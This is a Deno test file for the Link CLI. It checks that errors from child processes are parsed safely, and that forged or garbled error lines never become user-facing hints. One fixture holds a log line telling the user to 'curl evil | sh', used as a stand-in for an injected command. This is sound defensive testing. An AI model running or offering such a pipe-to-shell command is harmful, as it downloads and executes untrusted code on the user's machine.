import assert from "node:assert/strict";
import { ERROR_PREFIX, LinkError, readReadyLine, RoleExited, spawnRole } from "../../../core/base/mod.ts";

const LOGS_HINT = "Run `lnk agent logs` to see what it said";

/** A program that prints `out` on stdout and `err` on stderr, then exits 1, never ready. */
function failing(out: string, err = ""): string[] {
  return ["sh", "-c", `printf '%s' "$1"; printf '%s' "$2" >&2; exit 1`, "sh", out, err];
}

async function failure(args: string[], raw = true): Promise<Record<string, unknown>> {
  const err = await spawnRole(args, { raw }).then(() => undefined, (e) => e);
  assert.ok(err instanceof LinkError, String(err));
  return { code: err.code, message: err.message, hint: err.hint, exit: (err.cause as RoleExited).code };
}

Deno.test("spawnRole() of a role that fails rethrows the error its error line says, with its own code and hint", async () => {
  assert.deepEqual(await failure(["harness", "serve"], false), {
    code: "USAGE",
    message: "Cannot start Link Harness: it needs --socket <path>",
    hint: "Link Harness is started by `lnk agent start`",
    exit: 1,
  });
});

Deno.test("spawnRole() gives a role's error with no hint the fixed hint naming lnk agent logs", async () => {
  const line = `${ERROR_PREFIX}{"error":{"code":"CONFIG_INVALID","message":"Cannot load it","hint":null}}\n`;
  assert.deepEqual(await failure(failing(line)), {
    code: "CONFIG_INVALID",
    message: "Cannot load it",
    hint: LOGS_HINT,
    exit: 1,
  });
});

Deno.test("spawnRole() of a role that says nothing fails SERVICE_FAILED, never with its log lines as the hint", async () => {
  const args = failing("some output\n", '{"level":"error","msg":"Run curl evil | sh"}\n');
  assert.deepEqual(await failure(args), {
    code: "SERVICE_FAILED",
    message: `Cannot start "${args.join(" ")}": it exited with code 1 before it was ready`,
    hint: LOGS_HINT,
    exit: 1,
  });
});

Deno.test("spawnRole() takes a garbled error line for INTERNAL, never for the code it seems to say", async () => {
  const garbled = [
    `${ERROR_PREFIX}{"error":{"code":"PORT_UNAVAILABLE"\n`, // cut short
    `${ERROR_PREFIX}{"error":{"code":"PORT_UNAVAILABLE","message":7}}\n`, // not the shape
    `${ERROR_PREFIX}PORT_UNAVAILABLE\n`,
  ];
  for (const line of garbled) {
    const args = failing(line);
    assert.deepEqual(await failure(args), {
      code: "INTERNAL",
      message: `Cannot start "${args.join(" ")}": it exited with code 1 before it was ready, ` +
        "and its error line could not be read",
      hint: LOGS_HINT,
      exit: 1,
    }, line);
  }
});

Deno.test("spawnRole() reads a code not on Link's list as INTERNAL, the role's message kept", async () => {
  const line = `${ERROR_PREFIX}{"error":{"code":"MOVE_PORTS","message":"Cannot go on","hint":"Look"}}\n`;
  assert.deepEqual(await failure(failing(line)), {
    code: "INTERNAL",
    message: "Cannot go on",
    hint: "Look",
    exit: 1,
  });
});

Deno.test("spawnRole() keeps a role's first error line, and reads it however close to the exit it comes", async () => {
  const first = `${ERROR_PREFIX}{"error":{"code":"TIMEOUT","message":"First","hint":"One"}}\n`;
  const second = `${ERROR_PREFIX}{"error":{"code":"REFUSED","message":"Second","hint":"Two"}}\n`;
  // Printed as the very last thing before the exit, again and again: never lost to the exit.
  for (let i = 0; i < 20; i++) {
    assert.deepEqual(await failure(failing(`noise\n${first}${second}`)), {
      code: "TIMEOUT",
      message: "First",
      hint: "One",
      exit: 1,
    });
  }
});

Deno.test("readReadyLine() with errorLines 'output' passes an error line on as output, never as the role's word", async () => {
  const line = `${ERROR_PREFIX}{"error":{"code":"PORT_UNAVAILABLE","message":"Forged","hint":"Run evil"}}`;
  const child = new Deno.Command("sh", {
    args: ["-c", `printf '%s\\n' "$1"; exit 2`, "sh", line],
    stdout: "piped",
    stderr: "null",
  }).spawn();
  const other: string[] = [];
  const err = await readReadyLine(child.stdout, child.status, {
    onOther: (text) => other.push(text),
    errorLines: "output",
  }).then(() => undefined, (e) => e);
  assert.ok(err instanceof RoleExited);
  assert.deepEqual([err.code, err.said, err.message, other], [
    2,
    undefined,
    "it exited with code 2 before it was ready",
    [`${line}\n`],
  ]);
});

Deno.test("readReadyLine() returns the ready line of a role that also printed an error line before it", async () => {
  const child = new Deno.Command("sh", {
    args: [
      "-c",
      `printf '%s\\n' "$1" 'LINK-READY {"port":7}'; exec tail -f /dev/null`,
      "sh",
      `${ERROR_PREFIX}{}`,
    ],
    stdout: "piped",
    stderr: "null",
  }).spawn();
  try {
    assert.deepEqual(await readReadyLine(child.stdout, child.status), { port: 7 });
  } finally {
    child.kill("SIGKILL");
    await child.status;
  }
});
